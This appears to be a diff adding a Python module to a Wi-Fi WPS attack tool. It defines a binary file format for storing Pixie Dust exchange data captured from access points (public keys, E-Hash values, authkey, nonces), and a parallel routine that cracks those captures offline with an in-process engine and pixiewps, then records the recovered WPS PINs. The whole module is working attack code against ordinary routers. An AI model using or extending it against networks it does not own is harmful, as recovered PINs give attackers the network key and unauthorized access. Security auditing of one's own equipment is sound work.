@@ -0,0 +1,213 @@
+#!/usr/bin/env python3
+# -*- coding: utf-8 -*-
+
+import os
+import glob
+import struct
+import binascii
+from concurrent.futures import ThreadPoolExecutor, ProcessPoolExecutor, as_completed
+
+from .pixiewps import PixiewpsData, PixiewpsRunner, PixiewpsCapabilities, PixiewpsCache, StrategyStats, \
+    build_strategies
+from .pixie_native import native_crack, numpy_notice
+from .utils import saveReport, replaceFile, REPORTS_DIR
+
+CAPTURE_MAGIC = b'OSPX'
+CAPTURE_VERSION = 1
+CAPTURE_SUFFIX = '.pixie'
+
+# Record type → attribute, encoding. A capture is the magic, the version byte and
+# records of a type byte, a big-endian 16-bit length and the value; readers skip unknown types
+CAPTURE_RECORDS = {
+    0x01: ('bssid', 'mac'),
+    0x02: ('essid', 'str'),
+    0x10: ('pke', 'bytes'),
+    0x11: ('pkr', 'bytes'),
+    0x12: ('e_hash1', 'bytes'),
+    0x13: ('e_hash2', 'bytes'),
+    0x14: ('authkey', 'bytes'),
+    0x15: ('e_nonce', 'bytes'),
+    0x16: ('r_nonce', 'bytes'),
+    0x17: ('e_bssid', 'mac'),
+    0x18: ('e_snonce', 'bytes'),
+    0x19: ('r_snonce', 'bytes'),
+    0x20: ('e_manufacturer', 'str'),
+    0x21: ('e_model', 'str'),
+    0x22: ('e_version', 'str'),
+    0x23: ('key_version', 'int')
+}
+
+RECORD_HEADER = struct.Struct('>BH')
+
+
+class PixieCapture:
+    """Pixie Dust data of one exchange with the AP it was collected from, for cracking offline"""
+    def __init__(self, bssid='', essid='', data=None):
+        self.bssid = bssid.upper()
+        self.essid = essid
+        self.data = data or PixiewpsData()
+
+    def __value(self, name):
+        return getattr(self, name) if name in ('bssid', 'essid') else getattr(self.data, name)
+
+    def __setValue(self, name, value):
+        if name in ('bssid', 'essid'):
+            setattr(self, name, value)
+        else:
+            setattr(self.data, name, value)
+
+    def filename(self):
+        """BSSID and data digest: capturing the same exchange twice yields the same file"""
+        return '{}_{}{}'.format(self.bssid.replace(':', ''), self.data.digest()[:16], CAPTURE_SUFFIX)
+
+    def toBytes(self):
+        out = [CAPTURE_MAGIC, bytes((CAPTURE_VERSION,))]
+        for record, (name, encoding) in CAPTURE_RECORDS.items():
+            value = self.__value(name)
+            if not value:
+                continue
+            if encoding == 'mac':
+                value = binascii.a2b_hex(value.replace(':', ''))
+            elif encoding == 'str':
+                value = value.encode('utf-8')
+            elif encoding == 'int':
+                value = value.to_bytes(1, 'big')
+            out.append(RECORD_HEADER.pack(record, len(value)) + value)
+        return b''.join(out)
+
+    @classmethod
+    def fromBytes(cls, raw):
+        if raw[:4] != CAPTURE_MAGIC:
+            raise ValueError('not a Pixie Dust capture')
+        if raw[4] > CAPTURE_VERSION:
+            raise ValueError('unsupported capture version {}'.format(raw[4]))
+        capture = cls()
+        offset = 5
+        while offset < len(raw):
+            record, length = RECORD_HEADER.unpack_from(raw, offset)
+            offset += RECORD_HEADER.size
+            value = raw[offset:offset + length]
+            if len(value) != length:
+                raise ValueError('truncated capture')
+            offset += length
+            if record not in CAPTURE_RECORDS:
+                continue
+            name, encoding = CAPTURE_RECORDS[record]
+            if encoding == 'mac':
+                value = ':'.join('{:02X}'.format(b) for b in value)
+            elif encoding == 'str':
+                value = value.decode('utf-8', errors='replace')
+            elif encoding == 'int':
+                value = int.from_bytes(value, 'big')
+            capture.__setValue(name, value)
+        return capture
+
+    def save(self, directory):
+        """Writes the capture to the directory; returns its path"""
+        os.makedirs(directory, exist_ok=True)
+        path = os.path.join(directory, self.filename())
+        replaceFile(path, self.toBytes())
+        return path
+
+    @classmethod
+    def load(cls, path):
+        with open(path, 'rb') as file:
+            return cls.fromBytes(file.read())
+
+
+def crack_captures(directory, pixiewps_dir, full_range=False, workers=None, timeout=None,
+                   reports_dir=REPORTS_DIR, native=True):
+    """
+    Runs the in-process engine and then Pixiewps on every capture in the directory,
+    using all cores, and appends the found PINs to the report store as they come in.
+    The in-process engine is CPU-bound Python, so it runs in worker processes;
+    threads only wait on the pixiewps subprocesses
+    @pixiewps_dir — where the pixiewps capabilities and the outcome cache are kept
+    @timeout — seconds a strategy may run; None for no limit, as full-range runs are long
+    @native — try the in-process engine before pixiewps
+    Returns the number of captures cracked
+    """
+    capabilities = PixiewpsCapabilities(cache_file=os.path.join(pixiewps_dir, 'capabilities.json'))
+    if not capabilities.installed:
+        if not native:
+            print('[-] pixiewps is not installed and the in-process engine is off')
+            return 0
+        print('[!] pixiewps is not installed, only the in-process engine is used')
+    cache = PixiewpsCache(os.path.join(pixiewps_dir, 'cache'))
+    stats = StrategyStats(os.path.join(pixiewps_dir, 'strategy_stats.json'))
+    captures = []
+    for path in sorted(glob.glob(os.path.join(directory, '*' + CAPTURE_SUFFIX))):
+        try:
+            captures.append((path, PixieCapture.load(path)))
+        except (OSError, ValueError, struct.error) as e:
+            print('[-] Skipping {}: {}'.format(path, e))
+    if not captures:
+        print('[-] No captures found in {}'.format(directory))
+        return 0
+
+    workers = workers or os.cpu_count() or 1
+    print('[*] Cracking {} captures, {} at once…'.format(len(captures), min(workers, len(captures))))
+    cracked = 0
+
+    def found(path, capture, pin, strategy, wall_time):
+        if pin is None:
+            print('[-] {} ({}): PIN not found'.format(capture.bssid, capture.essid or os.path.basename(path)))
+            return 0
+        if strategy is None:
+            how = 'found before'
+        else:
+            how = '{} strategy, {:.2f} s'.format(strategy, wall_time)
+        print('[+] {} ({}): WPS PIN {} ({})'.format(capture.bssid, capture.essid, pin, how))
+        saveReport(reports_dir, capture.bssid, capture.essid, pin, '')
+        return 1
+
+    pending = []
+    for path, capture in captures:
+        cached = cache.lookup(capture.data.digest())
+        if cached:
+            cracked += found(path, capture, cached['pin'], None, 0.0)
+        else:
+            pending.append((path, capture))
+
+    if native and pending:
+        # Shown here so that the forked workers do not each repeat it
+        numpy_notice()
+        left = []
+        with ProcessPoolExecutor(max_workers=min(workers, len(pending))) as executor:
+            futures = {executor.submit(native_crack, capture.data): (path, capture) for path, capture in pending}
+            for future in as_completed(futures):
+                path, capture = futures[future]
+                result = future.result()
+                if result.pin is None:
+                    left.append((path, capture))
+                    continue
+                cache.store(capture.data.digest(), [], result, None)
+                stats.record(capture.data, capture.bssid, result)
+                cracked += found(path, capture, result.pin, result.strategy, result.wall_time)
+        pending = sorted(left, key=lambda item: item[0])
+
+    def crack(capture, per_capture):
+        data = capture.data
+        digest = data.digest()
+        if not capabilities.installed:
+            return None, None, 0.0
+        strategies = [(name, argv) for name, argv in build_strategies(data, capabilities, full_range)
+                      if not cache.hasFailed(digest, name, argv, capabilities.version)]
+        if not strategies:
+            return None, None, 0.0
+        result = PixiewpsRunner(workers=per_capture, timeout=timeout).run(
+            *stats.order(strategies, data, capture.bssid))
+        cache.store(digest, strategies, result, capabilities.version)
+        stats.record(data, capture.bssid, result)
+        return result.pin, result.strategy, result.wall_time
+
+    if pending:
+        # Captures are cracked side by side; spare cores go to the strategies of each capture
+        per_capture = max(1, workers // len(pending))
+        with ThreadPoolExecutor(max_workers=min(workers, len(pending))) as executor:
+            futures = {executor.submit(crack, capture, per_capture): (path, capture) for path, capture in pending}
+            for future in as_completed(futures):
+                path, capture = futures[future]
+                cracked += found(path, capture, *future.result())
+    print('[*] Cracked {} of {} captures'.format(cracked, len(captures)))
+    return cracked